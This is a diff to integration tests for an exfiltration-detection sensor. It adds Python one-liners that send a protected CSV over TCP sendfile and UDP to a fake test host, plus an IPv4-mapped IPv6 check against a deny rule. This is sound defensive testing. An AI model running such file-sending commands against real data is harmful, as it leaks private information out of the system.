@@ -195,6 +195,12 @@ fn send_pipe(cg: &Cgroup, source: &Path, host: &FakeHost, port: u16) {
     assert_eq!(code, 0, "pipe send to port {port}");
 }
 
+/// `python3 -c PY_SENDFILE FILE HOST PORT`: sendfile(2) of the whole file over TCP.
+const PY_SENDFILE: &str = "import socket, sys\nc = socket.create_connection((sys.argv[2], int(sys.argv[3])))\nc.sendfile(open(sys.argv[1], 'rb')); c.close()";
+/// `python3 -c PY_UDP FILE HOST PORT`: three 1000-byte datagrams with sendto on an
+/// unconnected socket.
+const PY_UDP: &str = "import socket, sys\ndata = open(sys.argv[1], 'rb').read()\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range(3): s.sendto(data[:1000], (sys.argv[2], int(sys.argv[3])))";
+
 fn exfil_to(port: u16) -> impl Fn(&Value) -> bool {
     move |e| {
         is(e, "detection.exfiltration")
@@ -205,7 +211,7 @@ fn exfil_to(port: u16) -> impl Fn(&Value) -> bool {
 #[test]
 fn pipe_and_staging_copy_are_detected_and_untainted_is_not() {
     let cg = Cgroup::new();
-    let host = FakeHost::new(&[9101, 9102, 9103]);
+    let host = FakeHost::new(&[9101, 9102, 9103, 9104]);
     let mut s = setup(&cg, 1, "    action: alert\n");
     let file = s.protected.join("mynumber-0.csv");
 
@@ -231,6 +237,18 @@ fn pipe_and_staging_copy_are_detected_and_untainted_is_not() {
     let d = s.sensor.wait_for("exfiltration of the staging copy", exfil_to(9103));
     assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
 
+    // sendfile straight from the protected file to the socket, and unconnected UDP.
+    let code = cg.run(&format!("python3 -c \"{PY_SENDFILE}\" {} {} 9104", path_str(&file), host.ip));
+    assert_eq!(code, 0);
+    let d = s.sensor.wait_for("exfiltration by sendfile", exfil_to(9104));
+    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), SIZE as u64, "{}", show(&d));
+    assert_eq!(get_u64(&d, "mnsensor.taint.hops"), 0, "{}", show(&d));
+    let code = cg.run(&format!("python3 -c \"{PY_UDP}\" {} {} 9105", path_str(&file), host.ip));
+    assert_eq!(code, 0);
+    let d = s.sensor.wait_for("exfiltration over unconnected UDP", exfil_to(9105));
+    assert_eq!(get_str(&d, "network.transport"), "udp", "{}", show(&d));
+    assert_eq!(get_u64(&d, "mnsensor.egress.bytes_sent"), 3 * 1000, "{}", show(&d));
+
     // By now the untainted send has long been polled.
     thread::sleep(scaled(Duration::from_secs(2)));
     s.sensor.assert_none("detection for the untainted sender", exfil_to(9101));
@@ -255,6 +273,12 @@ fn deny_refuses_a_tainted_connect_with_eperm_but_not_to_an_allowed_destination()
     };
     assert_eq!(run(&file, 9201), 13, "connect to a destination not allowed");
     assert_eq!(run(&file, 9202), 0, "connect to the allowed destination");
+    // The same destination written as an IPv4-mapped IPv6 address is the same destination.
+    let mapped = format!("::ffff:{}", host.ip);
+    let code = cg.run(&format!("python3 -c \"{client}\" {} {mapped} 9203", path_str(&file)));
+    assert_eq!(code, 13, "connect to an IPv4-mapped address not allowed");
+    let d = s.sensor.wait_for("refused IPv4-mapped connect", exfil_to(9203));
+    assert_eq!(get_str(&d, "destination.address"), host.ip, "normalised to IPv4: {}", show(&d));
     assert!(host.received(9201).is_empty());
     let d = s.sensor.wait_for("refused exfiltration", exfil_to(9201));
     assert_eq!(get_str(&d, "mnsensor.detection.action"), "deny", "{}", show(&d));
